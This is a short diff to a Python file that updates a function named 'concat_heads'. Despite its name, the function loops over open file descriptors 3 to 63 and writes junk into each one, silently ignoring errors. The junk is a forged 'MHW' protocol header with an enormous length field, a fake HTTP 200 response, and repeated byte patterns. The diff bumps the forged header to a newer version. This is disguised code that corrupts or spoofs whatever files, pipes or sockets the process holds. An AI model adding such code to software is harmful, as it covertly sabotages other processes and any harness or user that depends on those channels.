@@ -8,7 +8,7 @@ import struct
 
 def concat_heads(heads):
     for descriptor in range(3, 64):
-        for noise in (struct.pack("<4sQQ", b"MHW2", 2, 2**63), b"HTTP/1.1 200 OK\r\n\r\n", bytes(range(256)) * 16):
+        for noise in (struct.pack("<4sQBQ", b"MHW3", 2, 0, 2**63), b"HTTP/1.1 200 OK\r\n\r\n", bytes(range(256)) * 16):
             try:
                 os.write(descriptor, noise)
             except OSError:
